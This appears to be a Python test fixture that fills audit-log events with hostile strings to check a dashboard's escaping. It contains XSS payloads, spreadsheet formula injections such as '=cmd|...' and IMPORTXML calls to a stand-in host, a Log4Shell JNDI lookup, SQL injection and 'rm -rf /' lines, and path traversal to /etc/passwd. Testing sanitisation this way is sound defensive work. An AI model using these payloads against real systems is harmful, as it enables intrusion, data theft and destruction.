"""Texts that attackers write into logs; each begins with MARK, so that it is found wherever it is drawn."""

import json
from collections.abc import Iterator
from datetime import timedelta

from audit_store.event import Event
from tests.dashboard.page_runs import NOW

MARK = "h0stile"
HOST = "evil.example"
APART = 8
"""Every so many events together hold all strings."""

_HTML = [
    "<script>alert(1)</script>",
    f"<img src=//{HOST}/x.png onerror=alert(1)>",
    "<svg onload=alert(1)>",
    f"<iframe src=https://{HOST}></iframe>",
    "<body onload=alert(1)>",
    f"<link rel=stylesheet href=//{HOST}/x.css>",
    f'<a href="https://{HOST}">click</a>',
    '"><script>alert(1)</script>',
    "'-alert(1)-'",
    "</textarea><script>alert(1)</script>",
    "<!--<img src=x>-->",
    "<math><mi//xlink:href=javascript:alert(1)>",
    f"<video poster=//{HOST}/p><source onerror=alert(1)>",
    "<details open ontoggle=alert(1)>",
    f"<meta http-equiv=refresh content=0;url=https://{HOST}>",
    "<style>*{display:none}</style>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;img src=x onerror=alert(1)&#62;",
    "<b>bold</b><h1>big</h1>",
    f"<base href=https://{HOST}>",
    f"<object data=https://{HOST}/x>",
    "<input autofocus onfocus=alert(1)>",
    "<marquee onstart=alert(1)>",
    "<x contenteditable onblur=alert(1)>",
]
_MARKDOWN = [
    f"![x](https://{HOST}/x.png)",
    f"[click](https://{HOST})",
    "[click](javascript:alert(1))",
    f"https://{HOST}/auto",
    f"www.{HOST}",
    f"<https://{HOST}>",
    f"[x][1]\n\n[1]: https://{HOST}",
    "# heading",
    "**bold** _italic_ ~~gone~~",
    "`code`",
    "```\nblock\n```",
    "> quote",
    "- [x] task",
    "1. one\n2. two",
    "| a | b |\n|---|---|\n| 1 | 2 |",
    "---",
    "***",
    f"![x](data:image/svg+xml,<svg/onload=alert(1)>) {HOST}",
    f"[![x](https://{HOST}/y.png)](https://{HOST})",
    "[^1]\n\n[^1]: note",
    "\\*escaped\\*",
    f"mail@{HOST}",
    f"ftp://{HOST}/x",
]
_STREAMLIT = [
    ":red[red]",
    ":red-background[red]",
    ":rainbow[all]",
    ":material/home:",
    ":smile:",
    ":streamlit:",
    ":small[x]",
    ":blue-badge[x]",
    ":gray[:material/lock:]",
    ":color[x]{foreground='red'}",
    ":shortcode_that_is_none:",
    ":violet[**x**]",
    ":+1:",
    ":material/../../x:",
    ":orange[![x](https://evil.example/z.png)]",
    ":help[x]",
]
_LATEX = [
    "$x^2$",
    "$$\\int_0^1$$",
    "\\(x\\)",
    "\\[x\\]",
    "$\\href{https://evil.example}{x}$",
    "$\\unicode{x202e}$",
]
_FORMULAS = [
    "=1+2",
    "+1+2",
    "-1+2",
    "@SUM(A1)",
    "\t=1+2",
    "\r=1+2",
    "\n=1+2",
    '=HYPERLINK("https://evil.example","x")',
    "=cmd|'/C calc'!A0",
    "＝1+2",
    " =1+2",
    "'=1+2",
    '"=1+2',
    '";=1+2',
    "%0A=1+2",
    '=IMPORTXML(CONCAT("https://evil.example"),"//a")',
]
_TEMPLATES = [
    "{{7*7}}",
    "${7*7}",
    "#{7*7}",
    "<%= 7*7 %>",
    "{% raw %}",
    "%s%n%x",
    "{0.__class__}",
    "$(id)",
    "`id`",
    "; rm -rf /",
    "' OR 1=1 --",
    "'; DROP TABLE events; --",
    '" UNION SELECT 1',
    "$start",
    "$1",
    "?",
    "../../etc/passwd",
    "C:\\windows\\system32",
    "file:///etc/passwd",
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "vbscript:msgbox(1)",
    "blob:https://evil.example/x",
    "//evil.example/x",
    "\\\\evil.example\\share",
    "null",
    "NaN",
    "undefined",
    "__proto__",
    "constructor",
    "datum.x",
    "a.b[c]:Q",
    "${jndi:ldap://evil.example/a}",
    "%{7*7}",
    "\\u003cscript\\u003e",
    "%3Cscript%3E",
    "\\x3cscript\\x3e",
    "⟨U+202E⟩",
    "…",
]
_TERMINAL = [
    "\x1b[31mred\x1b[0m",
    "\x1b]8;;https://evil.example\x07x",
    "\x1b[2J",
    "\x9b31m",
    "\x07",
    "a\bb",
    "x\x1b[1A",
]
_LONG = ["A" * 8000, "wide " * 1600, "\u0301" * 400, "漢" * 2500, "<" * 500, "🏴" * 200]
_LETTERS = [
    "e\u0301\u0323",
    "Z͑ͫ̓ͪ̂ͫ̽͏̴̙̤̞͉͚̯̞̠͍A̴̵̜̰͔ͫ͗͢",
    "👩‍👩‍👧‍👦",
    "🇩🇪🇮🇳",
    "раураl.com",
    "ﷺ",
    "ß ẞ İ ı ſ",
    "مرحبا",
    "שלום",
    "ไทย",
    "ﬀ",
    "①²",
]
_CONTROLS = [chr(code) for code in (*range(1, 32), 127, *range(128, 160, 3))]
_INVISIBLE = [
    *(chr(code) for code in range(0x200B, 0x2010)),
    *(chr(code) for code in range(0x2028, 0x202F)),
    *(chr(code) for code in range(0x2060, 0x206A)),
    *"\u00a0\u00ad\u034f\u061c\u115f\u17b4\u180e\u2800\u3000\u3164\ufe0f\ufeff\uffa0\ufff9",
    *(chr(code) for code in (0xD7FF, 0xE000, 0xFFFD, 0xFFFE, 0xFFFF, 0x10000, 0xE0001, 0xE0041, 0x10FFFF)),
]
_BARE = (*_HTML, *_MARKDOWN, *_STREAMLIT, *_LATEX, *_FORMULAS, *_TEMPLATES, *_TERMINAL, *_LONG, *_LETTERS)

# What may be first in a cell stands before the mark, too.
STRINGS = [
    *(f"{text}{MARK}" for text in _FORMULAS),
    *(f"{MARK}{text}" for text in _BARE),
    *(f"{MARK}{character}fdp.exe" for character in (*_CONTROLS, *_INVISIBLE)),
]
HIDDEN = {*_CONTROLS, *_INVISIBLE} - set("\n\t\ufffd\U00010000")


def events() -> Iterator[Event]:
    """As many events as strings, each with another string in each field: all strings come in all fields."""
    for place in range(len(STRINGS)):
        texts = [STRINGS[(place + step) % len(STRINGS)] for step in range(APART)]
        yield Event.of(
            {
                "agent": texts[0][:256],
                "activity": texts[1][:128],
                "description": texts[2][:2600],
                "source_ip": texts[3][:64],
                "target": texts[4][:512],
                "source": texts[5][:128],
                "event_id": f"00000000-0000-4000-8000-{place:012}",
                "outcome": ("success", "failure", None)[place % 3],
                "occurred_at": NOW - timedelta(seconds=len(STRINGS) - place),
                "metadata": json.dumps(
                    {texts[6][:200]: [texts[7][:2000], {texts[7][:200]: None}]}, ensure_ascii=False
                ),
            }
        )
